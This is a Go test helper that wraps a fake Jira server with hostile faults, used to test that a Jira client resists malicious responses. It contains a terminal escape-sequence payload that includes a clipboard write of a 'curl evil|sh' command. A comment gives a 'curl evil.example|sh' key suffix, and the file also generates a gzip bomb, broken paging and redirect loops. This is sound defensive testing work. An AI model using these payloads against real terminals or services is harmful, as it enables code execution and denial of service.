package fakejira

// A hostile Jira: the faults a deliberately misbehaving server (or whatever
// stands in front of Jira) can show, wrapped around the faithful fake so
// every answer is otherwise real. Tests use it to prove that nothing Jira
// sends can take over the terminal, that paging always ends and that each
// broken answer gets an error naming what happened.

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
)

// EscapePayload is one sample of every escape family a terminal acts on:
// CSI (clear screen, SGR), OSC 0 (window title), OSC 52 (clipboard), OSC 8
// (hyperlink), DCS (a query the terminal answers into the input), APC (tmux
// pane title), an 8-bit CSI (U+009B) and another C1 control, bidi overrides
// and isolates, zero-width characters, a tag character, CR, NUL and DEL.
const EscapePayload = "\x1b[2J\x1b[31mred\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\" +
	"\x1bP+q544e\x1b\\\x1b_tmux\x1b\\\u009b2J\u0085\u202eevil\u202c\u2066iso\u2069\u200bzw\u200d\u200e\ufeff\U000e0041\rCR\x00\x7f"

// HostileFaults choose the misbehaviour; the zero value passes every
// request to the fake unchanged.
type HostileFaults struct {
	// Payload is appended to every text string of every JSON answer:
	// summaries, names, display names, transition and field names, option
	// values, labels, ADF text, wiki bodies, link phrases, file names and
	// Jira's errorMessages and field errors. Ids, keys, self links and
	// other identifiers are left alone so the client keeps working.
	Payload string
	// KeySuffix is appended to the key of every issue in a search answer
	// ("\ncurl evil.example|sh").
	KeySuffix string
	// EmptyKey blanks the key of the first issue of a search answer.
	EmptyKey bool

	// RepeatToken (Cloud) answers every search with isLast:false and the
	// same nextPageToken, serving the first page again for it.
	RepeatToken bool
	// EmptyPages (Cloud) answers every search with no issues, isLast:false
	// and a fresh nextPageToken.
	EmptyPages bool
	// HugeTotal (Data Center) answers every search with total 1e9 and the
	// first page's issues whatever startAt asked for.
	HugeTotal bool

	// Match limits the body, redirect and header faults below to requests
	// whose path contains it ("" = every request but serverInfo).
	Match string
	// Truncate cuts a 2xx JSON answer in half (Content-Length matches what
	// is sent: a proxy cut it).
	Truncate bool
	// CutConnection sends half of a 2xx answer after announcing all of it,
	// then closes the connection.
	CutConnection bool
	// Oversize answers 2xx with a JSON body just over 64 MiB.
	Oversize bool
	// GzipBomb answers 2xx with a gzip body of a few hundred KiB that
	// inflates past 64 MiB.
	GzipBomb bool
	// IssuesObject answers a search with "issues" as an object, not a list.
	IssuesObject bool
	// NullBody answers 2xx with the JSON literal null.
	NullBody bool
	// RedirectTo answers with a 307 to this origin (same path and query).
	RedirectTo string
	// RedirectLoop answers with a 302 to the same path, forever.
	RedirectLoop bool
	// DeniedReason answers 401 with this raw X-Authentication-Denied-Reason
	// value (control characters included, written to the wire as is).
	DeniedReason string
}

// Hostile is an http.Handler serving a Server through HostileFaults. It is
// safe for concurrent use.
type Hostile struct {
	s  *Server
	mu sync.Mutex
	f  HostileFaults
	n  int // fresh page tokens
}

// NewHostile wraps s.
func NewHostile(s *Server) *Hostile { return &Hostile{s: s} }

// Set replaces the faults.
func (h *Hostile) Set(f HostileFaults) {
	h.mu.Lock()
	h.f = f
	h.mu.Unlock()
}

// Server is the wrapped fake (its Requests record every request, the
// hostile answers included).
func (h *Hostile) Server() *Server { return h.s }

const (
	hostileToken = "hostile-repeat"
	bombSize     = 65 << 20
)

func (h *Hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.mu.Lock()
	f := h.f
	h.n++
	n := h.n
	h.mu.Unlock()

	matched := !strings.HasSuffix(r.URL.Path, "/serverInfo") && (f.Match == "" || strings.Contains(r.URL.Path, f.Match))
	if matched {
		switch {
		case f.RedirectTo != "":
			u := strings.TrimRight(f.RedirectTo, "/") + r.URL.RequestURI()
			h.record(r, http.StatusTemporaryRedirect)
			http.Redirect(w, r, u, http.StatusTemporaryRedirect)
			return
		case f.RedirectLoop:
			hop := "1"
			if r.URL.Query().Get("hop") == "1" {
				hop = "2"
			}
			h.record(r, http.StatusFound)
			http.Redirect(w, r, r.URL.Path+"?hop="+hop, http.StatusFound)
			return
		case f.DeniedReason != "":
			h.record(r, http.StatusUnauthorized)
			writeRaw(w, "HTTP/1.1 401 Unauthorized\r\nContent-Type: application/json\r\nX-Authentication-Denied-Reason: "+f.DeniedReason+"\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
			return
		case f.Oversize:
			h.record(r, http.StatusOK)
			w.Header().Set("Content-Type", "application/json")
			_, _ = io.WriteString(w, `{"issues":[`)
			pad := bytes.Repeat([]byte(" "), 1<<20)
			for i := 0; i < bombSize>>20; i++ {
				if _, err := w.Write(pad); err != nil {
					return
				}
			}
			_, _ = io.WriteString(w, `]}`)
			return
		case f.GzipBomb:
			h.record(r, http.StatusOK)
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("Content-Encoding", "gzip")
			_, _ = w.Write(gzipBomb())
			return
		case f.NullBody:
			h.record(r, http.StatusOK)
			writeJSON(w, http.StatusOK, nil)
			return
		}
	}

	search := r.Method == http.MethodPost && (strings.HasSuffix(r.URL.Path, "/search/jql") || strings.HasSuffix(r.URL.Path, "/search"))
	startAt := 0
	if search {
		r, startAt = h.rewriteSearch(r, f)
		if f.EmptyPages {
			h.record(r, http.StatusOK)
			writeJSON(w, http.StatusOK, map[string]any{"issues": []any{}, "isLast": false, "nextPageToken": "hostile-empty-" + strconv.Itoa(n)})
			return
		}
	}

	rec := httptest.NewRecorder()
	h.s.ServeHTTP(rec, r)
	body := rec.Body.Bytes()
	if strings.Contains(rec.Header().Get("Content-Type"), "json") && len(body) > 0 {
		body = h.rewriteJSON(body, f, search, startAt)
	}
	ok := rec.Code >= 200 && rec.Code < 300
	for k, v := range rec.Header() {
		w.Header()[k] = v
	}
	switch {
	case matched && ok && f.Truncate:
		body = body[:len(body)/2]
	case matched && ok && f.CutConnection:
		w.Header().Set("Content-Length", strconv.Itoa(len(body)))
		w.WriteHeader(rec.Code)
		_, _ = w.Write(body[:len(body)/2])
		if fl, isFl := w.(http.Flusher); isFl {
			fl.Flush()
		}
		hijackClose(w)
		return
	}
	w.Header().Set("Content-Length", strconv.Itoa(len(body)))
	w.WriteHeader(rec.Code)
	_, _ = w.Write(body)
}

// record notes a request the fake never saw (a hostile answer of its own),
// so request counts stay true.
func (h *Hostile) record(r *http.Request, status int) {
	h.s.mu.Lock()
	h.s.recordLocked(Request{Method: r.Method, Path: r.URL.Path, RawQuery: r.URL.RawQuery, Status: status, HasAuth: r.Header.Get("Authorization") != ""})
	h.s.mu.Unlock()
}

// rewriteSearch makes the fake serve the first page again for the hostile
// paging faults; startAt is what the client asked for.
func (h *Hostile) rewriteSearch(r *http.Request, f HostileFaults) (_ *http.Request, startAt int) {
	if !f.RepeatToken && !f.HugeTotal {
		return r, 0
	}
	body, _ := io.ReadAll(r.Body)
	var m map[string]any
	if json.Unmarshal(body, &m) == nil {
		if n, isNum := m["startAt"].(float64); isNum {
			startAt = int(n)
		}
		delete(m, "nextPageToken")
		if f.HugeTotal {
			m["startAt"] = 0
		}
		body, _ = json.Marshal(m)
	}
	r2 := r.Clone(r.Context())
	r2.Body = io.NopCloser(bytes.NewReader(body))
	r2.ContentLength = int64(len(body))
	return r2, startAt
}

// rewriteJSON applies the text and paging faults to a JSON answer.
func (h *Hostile) rewriteJSON(body []byte, f HostileFaults, search bool, startAt int) []byte {
	if f.Payload == "" && f.KeySuffix == "" && !f.EmptyKey && !f.RepeatToken && !f.HugeTotal && !f.IssuesObject {
		return body
	}
	dec := json.NewDecoder(bytes.NewReader(body))
	dec.UseNumber()
	var v any
	if dec.Decode(&v) != nil {
		return body
	}
	if f.Payload != "" {
		v = poison(v, "", f.Payload, false)
	}
	if m, isObj := v.(map[string]any); isObj && search {
		issues, _ := m["issues"].([]any)
		for i, is := range issues {
			im, _ := is.(map[string]any)
			if im == nil {
				continue
			}
			if k, isStr := im["key"].(string); isStr && f.KeySuffix != "" {
				im["key"] = k + f.KeySuffix
			}
			if i == 0 && f.EmptyKey {
				im["key"] = ""
			}
		}
		if f.RepeatToken {
			m["isLast"], m["nextPageToken"] = false, hostileToken
		}
		if f.HugeTotal {
			m["total"], m["startAt"] = 1000000000, startAt
		}
		if f.IssuesObject {
			obj := map[string]any{}
			for i, is := range issues {
				obj[strconv.Itoa(i)] = is
			}
			m["issues"] = obj
		}
	}
	out, err := json.Marshal(v)
	if err != nil {
		return body
	}
	return out
}

// textKeys are the JSON keys whose string values are text a person reads.
var textKeys = map[string]bool{
	"summary": true, "displayName": true, "name": true, "value": true, "text": true,
	"description": true, "body": true, "inward": true, "outward": true, "filename": true,
	"errorMessages": true, "errors": true, "labels": true, "message": true, "errorMessage": true,
}

// poison appends payload to every text string under v. key is the JSON key
// v sits under; text says an enclosing key already marked it as text (the
// elements of labels or errorMessages, the values of errors).
func poison(v any, key, payload string, text bool) any {
	switch x := v.(type) {
	case string:
		if text || textKeys[key] {
			return x + payload
		}
		return x
	case []any:
		for i := range x {
			x[i] = poison(x[i], key, payload, text || key == "labels" || key == "errorMessages")
		}
		return x
	case map[string]any:
		_, isUser := x["displayName"]
		for k, e := range x {
			if isUser && k == "name" {
				continue // a Data Center user's name is an identifier
			}
			x[k] = poison(e, k, payload, key == "errors")
		}
		return x
	}
	return v
}

var (
	bombOnce sync.Once
	bomb     []byte
)

// gzipBomb is a gzip stream inflating to a JSON answer larger than 64 MiB.
func gzipBomb() []byte {
	bombOnce.Do(func() {
		var b bytes.Buffer
		zw, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
		_, _ = io.WriteString(zw, `{"issues":[`)
		pad := bytes.Repeat([]byte(" "), 1<<20)
		for i := 0; i < bombSize>>20; i++ {
			_, _ = zw.Write(pad)
		}
		_, _ = io.WriteString(zw, `]}`)
		_ = zw.Close()
		bomb = b.Bytes()
	})
	return bomb
}

// writeRaw writes bytes straight to the connection, bypassing net/http's
// header checks, then closes it.
func writeRaw(w http.ResponseWriter, raw string) {
	hj, ok := w.(http.Hijacker)
	if !ok {
		http.Error(w, "hostile: not hijackable", http.StatusInternalServerError)
		return
	}
	c, buf, err := hj.Hijack()
	if err != nil {
		return
	}
	_, _ = buf.WriteString(raw)
	_ = buf.Flush()
	_ = c.Close()
}
